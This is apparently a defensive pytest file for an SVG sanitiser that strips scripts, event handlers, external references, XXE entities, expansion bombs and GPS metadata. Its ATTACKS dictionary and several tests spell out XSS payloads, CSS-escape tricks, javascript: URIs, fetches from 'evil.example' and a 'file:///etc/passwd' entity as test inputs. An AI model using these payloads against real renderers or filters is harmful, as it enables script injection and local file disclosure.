"""An SVG leaves without anything active or outside, and is drawn as before.

The attacks are those that DOMPurify's tests collected over the years, in our own words: a viewer
that opens what we send must find nothing to run, and nothing to fetch.
"""

import base64
import re
from urllib.parse import quote

import pytest

from mmsprep.drawings import data, styles
from mmsprep.drawings.cleaning import Cleaner, is_drawn
from mmsprep.drawings.minify import minify
from mmsprep.drawings.tree import parse, written
from mmsprep.errors import Damaged, Dangerous, OverSafetyLimit
from mmsprep.limits import Limits
from mmsprep.testing.media import metadata, scene, still

LIMITS = Limits()
OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'viewBox="0 0 9 9">'
)
RECT = '<rect width="9" height="9"/>'
PAGE = base64.b64encode(b"<html>alert</html>").decode()
NESTED = base64.b64encode(f"{OPEN}<script>alert(1)</script>{RECT}</svg>".encode()).decode()
QUOTED = quote(f"{OPEN}<script>alert(1)</script></svg>")
HARMLESS = base64.b64encode(f"{OPEN}{RECT}</svg>".encode()).decode()
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def cleaned(svg: str) -> tuple[str, set[str]]:
    drawing = parse(svg.encode(), LIMITS)
    cleaner = Cleaner(LIMITS)
    cleaner.clean(drawing)
    return written(drawing.root).decode(), cleaner.removed


ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script with a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "a script of XHTML": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "a script in other letters": "<SCRIPT>alert(1)</SCRIPT>",
    "a script from outside": '<script xlink:href="//evil.example/alert.js"/>',
    "a script in CDATA": "<script><![CDATA[alert(1)]]></script>",
    "a handler on a group": '<g onload="alert(1)"/>',
    "a handler in other letters": '<g ONLOAD="alert(1)"/>',
    "a handler of the pointer": '<rect onpointerrawupdate="alert(1)"/>',
    "a handler that no list knows yet": '<rect onwhatevercomes="alert(1)"/>',
    "an animation's handler": '<animate attributeName="x" onbegin="alert(1)" dur="1s"/>',
    "a handler that is set later": '<set attributeName="onmouseover" to="alert(1)"/>',
    "a handler that is animated": '<animate attributeName="onunload" to="alert(1)"/>',
    "an address that is animated": (
        '<a><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" to="&amp;"/></a>'
    ),
    "an address that is set": '<a><set attributeName="href" to="javascript:alert(1)"/></a>',
    "a link to a script": '<a xlink:href="javascript:alert(1)"><circle r="4"/></a>',
    "a link to a script, broken up": '<a href="java&#10;script:alert(1)"><circle r="4"/></a>',
    "a link to a script after blanks": '<a href=" &#1;javascript:alert(1)"/>'.replace("&#1;", "&#9;"),
    "a link to a page as data": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    "an XML events handler": (
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'
    ),
    "an XML events listener": (
        '<x xmlns="http://www.w3.org/2001/xml-events" event="load" observer="foo" '
        'handler="data:image/svg+xml,%3Csvg%3E"/>'
    ),
    "a listener": '<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events"/>',
    "an event of another namespace": (
        '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="alert"/>'
    ),
    "foreign content": (
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'
    ),
    "a frame": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "a frame without a namespace": '<iframe xmlns="" src="javascript:alert(1)"/>',
    "an image of HTML": '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
    "mathematics": (
        '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi xlink:href="javascript:alert(1)"/></math>'
    ),
    "a template with a script": "<title><template><script>alert(1)</script></template></title>",
    "a style sheet with a tag in it": "<style><img src='x' onerror='alert(1)'/></style>",
    "a transformation": '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">alert</xsl:stylesheet>',
    "an image from outside": '<image xlink:href="http://evil.example/a.png"/>',
    "an image from this disk": '<image href="/etc/passwd"/>',
    "an image from next to it": '<image href="../secret.png"/>',
    "an image from a share": '<image href="\\\\evil\\a.png"/>',
    "a feImage from outside": '<filter><feImage href="https://evil.example/a.svg"/></filter>',
    "a copy from outside": '<use href="http://evil.example/a.svg#x"/>',
    "a copy from data": f'<use href="data:image/svg+xml;base64,{NESTED}#x"/>',
    "a script in a drawing inside": f'<image href="data:image/svg+xml;base64,{NESTED}"/>',
    "a script in a drawing without a type": f'<image href="data:;base64,{NESTED}"/>',
    "a page that does not say its type": f'<image href="data:;base64,{PAGE}"/>',
    "a picture that calls itself a page": f'<image href="data:text/html;base64,{PIXEL}"/>',
    "a drawing inside, not base64": f'<image href="data:image/svg+xml,{QUOTED}"/>',
    "a fill from outside": '<rect fill="url(http://evil.example/a.svg#x)"/>',
    "a filter from outside": '<rect filter="url(//evil.example/f#x)"/>',
    "a marker from outside": '<path d="M0,0" style="marker-start:url(test4.svg#a)"/>',
    "a filter as data": (
        '<rect style="filter:url(&quot;data:image/svg+xml,&lt;svg&gt;alert&lt;/svg&gt;&quot;)"/>'
    ),
    "a cursor from outside": '<rect style="cursor:url(http://evil.example/c)"/>',
    "an import": "<style>@import url(http://evil.example/a.css);</style>",
    "an import as a string": "<style>@import 'http://evil.example/a.css';</style>",
    "an import behind an escape": "<style>@\\69 mport 'http://evil.example/a.css';</style>",
    "an import within an import": "<style>@im@import 'x';port 'http://evil.example/a.css';</style>",
    "an address behind an escape": "<style>rect{fill:u\\72l(http://evil.example/)}</style>",
    "an address behind a comment": "<style>rect{fill:ur/**/l(http://evil.example/)}</style>",
    "a font from outside": "<style>@font-face{font-family:y;src:url('http://evil.example/f.svg#x')}</style>",
    "an image set": "<style>rect{background:image-set('http://evil.example/a.png' 1x)}</style>",
    "a behaviour": '<rect style="behavior:url(http://evil.example/b.htc)"/>',
    "a binding": '<rect style="-moz-binding:url(http://evil.example/b.xml#x)"/>',
    "an expression": '<rect style="width:expression(alert(1))"/>',
    "a base": '<g xml:base="http://evil.example/"><use href="#a"/></g>',
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_active_or_outside_is_left(attack: str) -> None:
    svg, removed = cleaned(f"{OPEN}{attack}{RECT}</svg>")
    assert removed
    for word in ("alert", "evil", "javascript", "passwd", "secret", "test4", NESTED):
        assert word not in svg
    assert RECT in svg
    _, again = cleaned(svg)
    assert not again


HARMLESS_PARTS = {
    "a filter": '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><g filter="url(#f)"/>',
    "a filter in quotes": "<g style=\"filter:url('#f')\"/>",
    "a gradient": '<linearGradient id="g" href="#h"/><rect fill="url(#g) red"/>',
    "a copy": '<path id="p" d="M0 0h9"/><use xlink:href="#p"/>',
    "a picture": f'<image href="data:image/png;base64,{PIXEL}"/>',
    "a picture that does not say its type": f'<image href="data:;base64,{PIXEL}"/>',
    "a picture of a misspelled type": f'<image href="data:img/png;base64,{PIXEL}"/>',
    "a drawing inside": f'<image href="data:image/svg+xml;base64,{HARMLESS}"/>',
    "a drawing that does not say its type": f'<image href="data:;base64,{HARMLESS}"/>',
    "a style": "<style>/* a > b */ .a{fill:#f00} @media print{.a{fill:none}}</style>",
    "a font inside": "<style>@font-face{font-family:x;src:url(data:font/woff2;base64,AAAA)}</style>",
    "letters": '<text dominant-baseline="middle">x &amp; <tspan dy="1">y</tspan></text>',
    "an animation": '<circle r="1"><animate attributeName="r" values="1;3;1" dur="1s"/></circle>',
    "an editor's notes": (
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
        'pagecolor="#fff"/><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
        'inkscape:label="Layer 1"/>'
    ),
    "a name, data and roles": '<g id="a" data-name="Layer" aria-label="x" role="img"/>',
    "a switch": '<switch><g systemLanguage="en"/><g/></switch>',
}


@pytest.mark.parametrize("part", HARMLESS_PARTS.values(), ids=HARMLESS_PARTS)
def test_what_is_harmless_is_not_touched(part: str) -> None:
    _, removed = cleaned(f"{OPEN}{part}{RECT}</svg>")
    assert not removed


def test_a_style_sheet_from_outside_goes() -> None:
    svg, removed = cleaned(f'<?xml-stylesheet href="http://evil.example/a.css"?>{OPEN}{RECT}</svg>')
    assert removed == {"outside references"}
    assert "evil" not in svg


def test_entities_of_the_file_itself_work_and_those_from_outside_do_not() -> None:
    inner = f'<!DOCTYPE svg [<!ENTITY ink "red">]>{OPEN}<rect fill="&ink;"/></svg>'
    svg, removed = cleaned(inner)
    assert 'fill="red"' in svg
    assert not removed
    outer = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{OPEN}<text>&x;</text>{RECT}</svg>'
    svg, removed = cleaned(outer)
    assert removed == {"outside references"}
    assert "passwd" not in svg


def test_a_handler_that_a_document_type_adds_by_itself_goes() -> None:
    svg, removed = cleaned(
        f'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "alert(1)">]>{OPEN}{RECT}</svg>'
    )
    assert "alert" not in svg
    assert removed == {"scripts"}


def test_the_place_in_the_metadata_goes_and_other_metadata_stays() -> None:
    note = '<metadata><x:a xmlns:x="http://ns.adobe.com/exif/1.0/" x:{}="52,31N"/></metadata>'
    svg, removed = cleaned(OPEN + note.format("GPSLatitude") + RECT + "</svg>")
    assert removed == {"location"}
    assert "52,31N" not in svg
    assert cleaned(OPEN + note.format("Lens") + RECT + "</svg>")[1] == set()


@pytest.mark.parametrize(
    "place",
    [
        '<p:City xmlns:p="http://ns.adobe.com/photoshop/1.0/">Vienna</p:City>',
        '<i:LocationCreated xmlns:i="http://iptc.org/"><r:li>Vienna</r:li></i:LocationCreated>',
        '<r:Description xmlns:e="http://ns.adobe.com/exif/1.0/" e:GPSLatitude="48,13.9N, Vienna"/>',
        '<d:description xmlns:d="http://purl.org/dc/">Vienna, +48.2327+016.3735/</d:description>',
    ],
    ids=["a city", "where it was made", "an attribute", "a description"],
)
@pytest.mark.parametrize("where", ["<metadata>{}</metadata>", "{}"], ids=["metadata", "drawing"])
def test_the_place_goes_wherever_it_stands_and_what_stands_beside_it_stays(
    where: str, place: str
) -> None:
    rights = '<d:rights xmlns:d="http://purl.org/dc/elements/1.1/">nobody</d:rights>'
    rdf = f'<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">{place}{rights}</r:RDF>'
    svg, removed = cleaned(OPEN + where.format(rdf) + RECT + "</svg>")
    assert removed == {"location"}
    assert "Vienna" not in svg
    assert rights in svg


@pytest.mark.parametrize("kind", ["desc", "title"])
def test_a_description_with_coordinates_goes_and_a_text_that_is_drawn_stays(kind: str) -> None:
    place = "lat: 48.858370, lng: 2.294481"
    drawn = f"<text>{place}</text>"
    svg, removed = cleaned(f"{OPEN}<g><{kind}>{place}</{kind}>{drawn}</g></svg>")
    assert removed == {"location"}
    assert svg.count(place) == 1
    assert drawn in svg
    other = f"{OPEN}<g><{kind}>a walk</{kind}>{drawn}</g></svg>"
    assert cleaned(other)[1] == set()


@pytest.mark.parametrize(
    "reference",
    [
        '<rect style="fill:url({})" width="9"/>',
        "<style>rect{{fill:url('{}')}}</style>",
        '<rect fill="url({})" width="9"/>',
        '<a href="{}"><circle r="4"/></a>',
    ],
    ids=["in a style", "in a style sheet", "in an attribute", "in a link"],
)
def test_the_place_in_a_picture_goes_wherever_it_is_referred_to(reference: str) -> None:
    photo = metadata.in_jpeg(
        still.jpeg(scene.corners(60, 40)), metadata.exif_segment(metadata.exif(location=True))
    )
    uri = "data:image/jpeg;base64," + base64.b64encode(photo).decode()
    svg, removed = cleaned(OPEN + reference.format(uri) + "</svg>")
    inside = base64.b64decode(re.findall(r"base64,([\w+/=]+)", svg)[0])
    assert removed == {"location"}
    assert len(inside) == len(photo)
    assert not any(place in inside for place in metadata.LOCATION_BYTES)


@pytest.mark.parametrize(
    "bomb",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)).replace("&a0;", "&a;")
        + f"]>{OPEN}<text>&a9;</text></svg>",
        OPEN
        + '<g id="a0"><rect/></g>'
        + "".join(f'<g id="a{n}">{f"""<use href="#a{n - 1}"/>""" * 10}</g>' for n in range(1, 9))
        + "</svg>",
    ],
    ids=["of entities", "of copies"],
)
def test_a_bomb_is_refused(bomb: str) -> None:
    with pytest.raises(Dangerous):
        cleaned(bomb)


def test_what_copies_itself_is_no_bomb() -> None:
    assert cleaned(f'{OPEN}<g id="a"><use href="#a"/>{RECT}</g></svg>')[1] == set()


def test_a_long_chain_of_copies_is_refused() -> None:
    chain = "".join(f'<g id="a{n}"><use href="#a{n + 1}"/></g>' for n in range(5_000))
    with pytest.raises(Dangerous):
        cleaned(f"{OPEN}{chain}</svg>")


def test_a_hundred_thousand_groups_in_each_other_are_over_the_limit() -> None:
    with pytest.raises(OverSafetyLimit, match="nesting"):
        cleaned(OPEN + "<g>" * 100_000)


@pytest.mark.parametrize("svg", ["<svg", "<svg></g>", "<html></html>", "", OPEN + "&nope;</svg>"])
def test_what_is_not_well_formed_is_damaged(svg: str) -> None:
    with pytest.raises(Damaged):
        cleaned(svg)


@pytest.mark.parametrize("encoding", ["jTF-8", "UPF-16", "base64", "utf-7", "idna"])
def test_an_encoding_that_no_drawing_has_is_damage(encoding: str) -> None:
    with pytest.raises(Damaged):
        cleaned(f'<?xml version="1.0" encoding="{encoding}"?>{OPEN}{RECT}</svg>')


def test_the_same_tree_comes_back_from_being_written() -> None:
    text = '<text a:b="&lt;&#10;&quot;&amp;" xmlns:a="http://www.figma.com/x">1 &lt; 2 ]]&gt;\n</text>'
    svg = f"{OPEN}{text}</svg>"
    once = written(parse(svg.encode(), LIMITS).root)
    assert written(parse(once, LIMITS).root) == once


def test_only_what_is_drawn_counts_as_something_to_see() -> None:
    assert is_drawn(parse(f"{OPEN}{RECT}</svg>".encode(), LIMITS).root)
    assert not is_drawn(parse(f"{OPEN}<g/></svg>".encode(), LIMITS).root)


def test_a_harmless_style_is_kept_to_the_letter() -> None:
    style = "a{content:'\\201C'; /* url(x) */ fill:url( '#a' )}"
    assert styles.cleaned(style) is style


@pytest.mark.parametrize(
    "style",
    [
        "-" * 200_000,
        "data:a/" + "a" * 400_000,
        "url(data:a/" + "a" * 400_000 + ")",
        "java" * 20_000 + "script:" * 20_000,
    ],
    ids=["dashes", "data", "reference", "scripts in scripts"],
)
def test_a_style_without_end_is_read_once(style: str) -> None:
    assert "script" not in styles.cleaned(style)
    assert not styles.inside(style)
    assert not data.kind_of(style)


def test_namespaces_without_end_are_not_carried_along() -> None:
    declared = "".join(f' xmlns:a{n}="a"' for n in range(40_000))
    with pytest.raises(Dangerous, match="namespaces"):
        parse(f"<svg{declared}>{'<g/>' * 90_000}</svg>".encode(), LIMITS)


def test_a_side_of_four_hundred_digits_is_only_very_long() -> None:
    drawing = parse(f'<svg viewBox="0 0 {"9" * 400} 1"><path d="M0.123456 0"/></svg>'.encode(), LIMITS)
    minify(drawing.root, cut_digits=True)
    assert b"M0.1 0" in written(drawing.root)


def test_of_scripts_that_are_folded_into_one_another_again_and_again_nothing_stays() -> None:
    few, many = ("java" * depth + "script:" * depth for depth in (2, 20))
    assert styles.cleaned(f"fill:red;{few}") == "fill:red;"
    assert styles.cleaned(f"fill:red;{many}") == ""
